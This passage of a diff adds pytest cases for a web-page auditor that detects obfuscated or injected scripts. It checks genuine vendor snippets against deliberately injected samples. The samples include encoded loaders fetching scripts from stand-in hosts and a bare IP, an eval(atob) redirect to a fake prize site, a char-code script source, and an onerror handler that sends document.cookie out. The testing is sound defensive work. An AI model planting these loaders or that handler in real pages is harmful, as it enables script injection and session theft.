+    "):n.data}catch(t){return}if(e[o]){var a=e[o];window[r](a.command,a.version,function(e,t)"
+    "{var r={};r[c]={returnValue:e,success:t,callId:a.callId};if(n.source){n.source.postMessa"
+    "ge(i?JSON.stringify(r):r,\"*\")}},a.parameter)}}if(typeof window[r]!==\"function\"){wind"
+    "ow[r]=e;if(window.addEventListener){window.addEventListener(\"message\",t,false)}else{wi"
+    "ndow.attachEvent(\"onmessage\",t)}}}e(\"__tcfapi\",\"__tcfapiBuffer\",\"__tcfapiCall\","
+    "\"__tcfapiReturn\");n(\"__tcfapiLocator\");(function(e,t){var r=document.createElement("
+    "\"link\");r.rel=\"preconnect\";r.as=\"script\";var n=document.createElement(\"link\");n."
+    "rel=\"dns-prefetch\";n.as=\"script\";var i=document.createElement(\"script\");i.id=\"spc"
+    "loader\";i.type=\"text/javascript\";i[\"async\"]=true;i.charset=\"utf-8\";var a=\"https:"
+    "//sdk.privacy-center.org/\"+e+\"/loader.js?target_type=notice&target=\"+t;if(window.dido"
+    "miConfig&&window.didomiConfig.user){var o=window.didomiConfig.user;var c=o.country;var s"
+    "=o.region;if(c){a=a+\"&country=\"+c;if(s){a=a+\"&region=\"+s}}}r.href=\"https://sdk.priv"
+    "acy-center.org/\";n.href=\"https://sdk.privacy-center.org/\";i.src=a;var d=document.getE"
+    "lementsByTagName(\"script\")[0];d.parentNode.insertBefore(r,d);d.parentNode.insertBefore"
+    "(n,d);d.parentNode.insertBefore(i,d)})(\"0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9\",\"Ab1Cd2"
+    "Ef\")})();</script>"
+)
+
+STAPE = (
+    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),e"
+    "vent:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer"
+    "'?'&l='+l:'';j.async=true;j.src='https://load.ss.harbourgazette-data.example/qwertyzxcv."
+    "js?'+i;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','b4x=aWQ9R"
+    "1RNLUs3UTJaUDM%3D&page=2');</script>"
+)
+
+SGTM = (
+    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),e"
+    "vent:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer"
+    "'?'&l='+l:'';j.async=true;j.src='https://sgtm.harbourgazette-data.example/gtm.js?id='+i+"
+    "dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-K7Q2ZP3')"
+    ";</script>"
+)
+
+WP_ROCKET_DELAY = (
+    "<script>class RocketLazyLoadScripts{constructor(){this.v=\"1.2.5.1\",this.triggerEvents="
+    "[\"keydown\",\"mousedown\",\"mousemove\",\"touchmove\",\"touchstart\",\"touchend\",\"whe"
+    "el\"],this.userEventHandler=this.t.bind(this),this.touchStartHandler=this.i.bind(this),t"
+    "his.delayedScripts={normal:[],async:[],defer:[]}}async o(t){return await this.h(),new Pr"
+    "omise((function(e){const i=document.createElement(\"script\");let n;[...t.attributes].fo"
+    "rEach((t=>{let e=t.nodeName;\"type\"!==e&&(\"data-rocket-type\"===e&&(e=\"type\",n=t.nod"
+    "eValue),i.setAttribute(e,t.nodeValue))})),t.text&&(i.text=t.text),t.hasAttribute(\"src\""
+    ")?(i.addEventListener(\"load\",e),i.addEventListener(\"error\",e)):(i.text=t.text,e());t"
+    "ry{t.parentNode.replaceChild(i,t)}catch(t){e()}}))}_transform(t){if(!t.hasAttribute(\"sr"
+    "c\")&&t.text){t.src=\"data:text/javascript;base64,\"+window.btoa(unescape(encodeURICompo"
+    "nent(t.text)))}}static run(){const t=new RocketLazyLoadScripts;t.D(t)}}RocketLazyLoadScr"
+    "ipts.run();</script><script type=\"rocketlazyloadscript\" data-rocket-src=\"https://www."
+    "googletagmanager.com/gtag/js?id=G-AB12CD34EF\" async></script><script type=\"rocketlazyl"
+    "oadscript\">window.dataLayer = window.dataLayer || [];function gtag(){dataLayer.push(arg"
+    "uments);}gtag('js', new Date());gtag('config', 'G-AB12CD34EF');</script>"
+)
+
+LITESPEED = (
+    "<script>var litespeed_vary=document.cookie.replace(/(?:(?:^|.*;\\s*)_lscache_vary\\s*\\="
+    "\\s*([^;]*).*$)|^.*$/,'');litespeed_vary||fetch('/wp-content/plugins/litespeed-cache/gue"
+    "st.vary.php',{method:'POST',cache:'no-cache',redirect:'follow'}).then(e=>e.json()).then("
+    "e=>{console.log(e),e.hasOwnProperty('reload')&&'yes'==e.reload&&(sessionStorage.setItem("
+    "'litespeed_docref',document.referrer),window.location.reload(!0))});</script><script dat"
+    "a-no-optimize=\"1\">var litespeed_docref=sessionStorage.getItem(\"litespeed_docref\");li"
+    "tespeed_docref&&(Object.defineProperty(document,\"referrer\",{get:function(){return lite"
+    "speed_docref}}),sessionStorage.removeItem(\"litespeed_docref\"));</script><script src=\""
+    "data:text/javascript;base64,d2luZG93LmRhdGFMYXllciA9IHdpbmRvdy5kYXRhTGF5ZXIgfHwgW107ZnVu"
+    "Y3Rpb24gZ3RhZygpe2RhdGFMYXllci5wdXNoKGFyZ3VtZW50cyk7fWd0YWcoJ2pzJywgbmV3IERhdGUoKSk7Z3Rh"
+    "ZygnY29uZmlnJywgJ0ctQUIxMkNEMzRFRicpOw==\" defer></script><script data-optimized=\"1\" t"
+    "ype=\"litespeed/javascript\" data-src=\"https://news.example/wp-content/litespeed/js/0a1"
+    "b2c3d4e5f.js?ver=a1b2c\"></script>"
+)
+
+AUTOPTIMIZE = (
+    "<script data-cfasync=\"false\" id=\"ao_optimized_gfonts_config\">WebFontConfig={google:{"
+    "families:[\"Roboto:400,700\"] },classes:false, events:false, timeout:1500};</script><scr"
+    "ipt defer src=\"data:text/javascript;base64,dmFyIHNhc3N5U29jaWFsU2hhcmUgPSB7ImRlbGF5SnMi"
+    "OiIwIiwiaXNNb2JpbGUiOiIiLCJhamF4VXJsIjoiaHR0cHM6Ly9uZXdzLmV4YW1wbGUvd3AtYWRtaW4vYWRtaW4t"
+    "YWpheC5waHAifTs=\"></script><script defer src=\"https://news.example/wp-content/cache/au"
+    "toptimize/js/autoptimize_0a1b2c3d4e5f60718293a4b5c6d7e8f9.js\"></script>"
+)
+
+ENKODER = (
+    "<script type=\"text/javascript\">document.write(decodeURIComponent('%3c%61%20%68%72%65%6"
+    "6%3d%22%6d%61%69%6c%74%6f%3a%64%65%73%6b%40%6e%65%77%73%2e%65%78%61%6d%70%6c%65%22%3e%64"
+    "%65%73%6b%40%6e%65%77%73%2e%65%78%61%6d%70%6c%65%3c%2f%61%3e'));</script>"
+)
+
+JETPACK = (
+    "<script type=\"text/javascript\" src=\"https://stats.wp.com/e-202449.js\" id=\"jetpack-s"
+    "tats-js\" defer data-wp-strategy=\"defer\"></script><script type=\"text/javascript\" id="
+    "\"jetpack-stats-js-after\">_stq = window._stq || [];_stq.push([ \"view\", JSON.parse(\"{"
+    "\\\"v\\\":\\\"ext\\\",\\\"blog\\\":\\\"198765432\\\",\\\"post\\\":\\\"4187\\\",\\\"tz\\"
+    "\":\\\"0\\\",\\\"srv\\\":\\\"news.example\\\",\\\"j\\\":\\\"1:13.9\\\"}\") ]);_stq.push("
+    "[ \"clickTrackerInit\", \"198765432\", \"4187\" ]);</script>"
+)
+
+
+VENDORS: list[tuple[str, str, Severity | None]] = [
+    # (what, page, the obfuscated-script severity it may have: None for none)
+    ("Funding Choices' tag and error protection code", page(FC_TAG, foot=fc_error_protection(
+        fc_config())), None),
+    ("Funding Choices' error protection code alone", page(foot=fc_error_protection(
+        fc_config())), None),
+    ("Admiral's tag and its obfuscated fallback", page(ADMIRAL_TAG + admiral(ADMIRAL_HOSTS)), M),
+    ("Ad-Shield's loader and its obfuscated fallback", page(
+        ADSHIELD_TAG + "<script>" + obfuscated(ADSHIELD_WORDS, ADSHIELD_BODY) + "</script>"), M),
+    ("Blockthrough's tag and AdThrive's recovery", page(BLOCKTHROUGH), None),
+    ("an ad-block bait check", page(body=BAIT), None),
+    ("Cloudflare's challenge script", page(foot=CF_CHALLENGE), None),
+    ("Cloudflare Rocket Loader", page(foot=ROCKET_LOADER), None),
+    ("Cloudflare's e-mail protection", page(body=CF_EMAIL), None),
+    ("Akamai Bot Manager", page(AKAMAI), None),
+    ("PerimeterX's block page", page(PERIMETERX_BLOCK), None),
+    ("DataDome's block page", page(DATADOME_BLOCK), None),
+    ("Imperva's hex-encoded inline code", page(INCAPSULA), None),
+    ("Kasada", page(KASADA), None),
+    ("VWO SmartCode 2.1", page(VWO), None),
+    ("Google Optimize's anti-flicker", page(ANTI_FLICKER), None),
+    ("Yandex Metrica", page(YANDEX), None),
+    ("Piwik PRO", page(PIWIK_PRO), None),
+    ("TikTok pixel", page(TIKTOK), None),
+    ("Sourcepoint's TCF stub", page(SOURCEPOINT), None),
+    ("Quantcast Choice (InMobi)", page(QUANTCAST), None),
+    ("Didomi", page(DIDOMI), None),
+    ("Stape's custom GTM loader", page(STAPE), None),
+    ("server-side GTM on a custom domain", page(SGTM), None),
+    ("WP Rocket's delayed JS", page(foot=WP_ROCKET_DELAY), None),
+    ("LiteSpeed's vary check and base64 data: scripts", page(foot=LITESPEED), None),
+    ("Autoptimize", page(foot=AUTOPTIMIZE), None),
+    ("an e-mail link written by decodeURIComponent", page(body=ENKODER), None),
+    ("Jetpack stats", page(foot=JETPACK), None),
+]
+
+
+def _obfuscated(report: PageReport) -> list[tuple[Severity, str]]:
+    return [(f.severity, f.message) for f in report.findings if f.kind == "obfuscated-script"]
+
+
+@pytest.mark.parametrize(("what", "html", "most"), VENDORS, ids=[v[0] for v in VENDORS])
+def test_a_vendors_own_code_reads_no_high(what: str, html: str, most: Severity | None,
+                                          audit_html: AuditHtml) -> None:
+    found = _obfuscated(audit_html(html, url=URL))
+    assert [s for s, _ in found] == ([most] if most else []), found
+    for _, message in found:  # a medium says what to check
+        assert "check that the site chose that vendor" in message
+
+
+def _config_loader(url: str) -> str:
+    """A loader whose address is a value of base64 JSON it reads."""
+    return (f"<script>var c=JSON.parse(atob('{b64(json.dumps({'v': 2, 'u': url}))}'));var s="
+            "document.createElement('script');s.src=c.u;document.head.appendChild(s);</script>")
+
+
+_FRESH = "https://cdn.fresh-metrics.test/j.js"
+_TABLE_LOADER = ("var _0x6d=document[_0x4f5a('0x0')](_0x4f5a('0x1'));_0x6d[_0x4f5a('0x2')]="
+                 "_0x4f5a('0x3');document[_0x4f5a('0x4')][_0x4f5a('0x5')](_0x6d);")
+
+
+def _table_loader(url: str, *extra: str) -> str:
+    words = ["createElement", "script", "src", url, "head", "appendChild", *extra]
+    return "<script>" + obfuscated(words, _TABLE_LOADER) + "</script>"
+
+
+_JQUERY = '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>'
+INJECTED: list[tuple[str, str]] = [
+    ("base64 JSON holding a fresh host's script", page(foot=_config_loader(_FRESH))),
+    ("base64 JSON holding a script on rented storage", page(foot=_config_loader(
+        "https://storage.googleapis.com/bkt-9931/x.js"))),
+    ("base64 JSON holding a bare IP's script", page(foot=_config_loader(
+        "http://185.12.34.56/j.js"))),
+    ("Funding Choices' config with another host's script", page(FC_TAG, foot=fc_error_protection(
+        fc_config("https://cdn.fresh-metrics.test")))),
+    ("javascript-obfuscator loader of a fresh host", page(foot=_table_loader(_FRESH))),
+    ("javascript-obfuscator loader of a bare IP", page(foot=_table_loader(
+        "http://185.12.34.56/j.js"))),
+    # a host the page loads far above it, named in the table, makes no vendor's fallback
+    ("the same, its table naming the page's jQuery CDN", page(_JQUERY, foot=_table_loader(
+        _FRESH, "code.jquery.com"))),
+    ("Admiral's form with a bare IP among its hosts", page(ADMIRAL_TAG + admiral(
+        [ADMIRAL_HOSTS[0], "http://185.12.34.56/j.js"]))),
+    ("base64 handed to eval, a redirect", page(foot="<script>eval(atob('" + b64(
+        "window.location.href='https://prize-claim-center.test/?s=hg';") + "'));</script>")),
+    ("a script src built from char codes", page(foot=(
+        "<script>var s=document.createElement('script');s.src=String.fromCharCode("
+        + ",".join(str(ord(c)) for c in "https://stay.linestoget.test/x.js")
+        + ");document.head.appendChild(s);</script>"))),
+]
+
+
+@pytest.mark.parametrize(("what", "html"), INJECTED, ids=[i[0] for i in INJECTED])
+def test_the_injected_forms_stay_high(what: str, html: str, audit_html: AuditHtml) -> None:
+    found = _obfuscated(audit_html(html, url=URL))
+    assert [s for s, _ in found] == [H], found
+
+
+_ICON = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z"/>'
+         "</svg>")
+_BANNER = ('<div class="cky-banner"><img src="https://cdn.banner-widget.test/logo.svg" alt="">'
+           '<button class="cky-btn">Accept</button></div>')
+
+
+def test_an_encoded_template_of_images_hides_no_code() -> None:
+    """A consent widget's base64 icons and banner template (a logo image, an SVG's
+    namespace) load nothing that runs: no obfuscation. Markup with an event handler is
+    code, however it loads."""
+    widget = (f"var icons={{close:'{b64(_ICON)}'}};var tpl='{b64(_BANNER)}';function show(){{"
+              "var d=document.createElement('div');d.innerHTML=atob(tpl);"
+              "document.body.appendChild(d);}")
+    assert not decode_script(widget).obfuscated
+    handler = _BANNER.replace('alt=""', "onerror=\"fetch('/x?'+document.cookie)\"")
+    assert decode_script(widget.replace(b64(_BANNER), b64(handler))).obfuscated
+
+
+def test_base64_json_is_data_whose_urls_the_code_reads() -> None:
+    """Funding Choices' config decodes to data: its URLs are found, marked as data's, and
+    nothing but them makes the script one that hides something."""
+    code = fc_error_protection(fc_config())[len("<script>"):-len("</script>")]
+    decoded = decode_script(code)
+    assert decoded.data_only and decoded.signals == ("encoded data holds a loadable URL",)
+    static = "https://www.gstatic.com/0emn/f/p/pub-1111222233334444.js?usqp=CBI"
+    assert {u.url: u.in_data for u in decoded.urls}[static] is True
+    assert is_data(json.dumps({"a": [1, None]})) and not is_data("f([1])")
+    # data that holds code is run code: still decoded as code
+    assert not decode_script(f"eval(atob('{b64(_TABLE_LOADER)}'))").data_only
